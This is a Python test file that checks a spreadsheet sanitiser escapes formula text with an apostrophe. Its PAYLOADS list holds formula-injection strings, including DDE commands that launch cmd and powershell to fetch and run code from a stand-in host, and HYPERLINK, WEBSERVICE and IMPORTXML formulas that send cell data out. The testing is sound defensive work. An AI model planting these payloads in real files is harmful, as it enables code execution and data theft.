"""What people type is shown in a spreadsheet and never computed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desk_app.domain.spreadsheet import (
    is_formula,
    safe_cell,
    safe_field,
    typed_cell,
    typed_field,
)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell IEX(wget http://x.example/a)'!_xlbgnm.A1",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://x.example/?d="&A1,"Click")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML(CONCAT("http://x.example?",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C notepad'!A0",
    "-",
    "=",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tAnna",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u00ad=1+1",
    "'=1+1",
    '"=1+1',
    "“=1+1”",
    "''=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "⁺1",
    "+49 30 901820",
    "+49-30-901820",
    "-5.00 €",
    "--5",
    "+",
    "-5e3+1",
    "- buy milk",
    "+१",
]
HARMLESS = [
    "",
    "Anna Weiß",
    "O'Neil & Sons",
    "a=b",
    "1-2",
    "anna@example.org",
    "(+49) 30 901820",
    "“Hello” - she said",
    "-5.00",
    "+4930901820",
    "-1.234,56",
    "0",
    "2026-11-24",
    "   ",
    "'",
    "¼ + ½",
    "\u0645\u0631\u062d\u0628\u0627",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_would_be_computed_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text(alphabet="=+-@'\" \tA1;\n＝\u200b") | st.text())
def test_a_cell_is_never_a_formula_and_gives_back_what_was_typed(text: str) -> None:
    cell = safe_cell(text)
    assert typed_cell(cell) == text
    assert cell[:1] == "'" or not is_formula(cell)


@given(st.text(alphabet="=+-@'\" \tA1;,\r\n＝\u200b") | st.text())
def test_a_field_is_no_formula_wherever_it_is_split(text: str) -> None:
    field = safe_field(text)
    assert typed_field(field) == text
    for part in re.split(r"[,;|\t\r\n]", field):
        assert part[:1] == "'" or not is_formula(part)


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("Anna;=1+1", "Anna;'=1+1"),
        ("a,b\n@SUM(1)|x", "a,b\n'@SUM(1)|x"),
        ("pain; -2 kg", "pain;' -2 kg"),
        ("fine, thanks; yes", "fine, thanks; yes"),
        ("=1;=2", "'=1;'=2"),
    ],
)
def test_later_parts_of_a_field_get_their_own_apostrophe(text: str, field: str) -> None:
    assert safe_field(text) == field
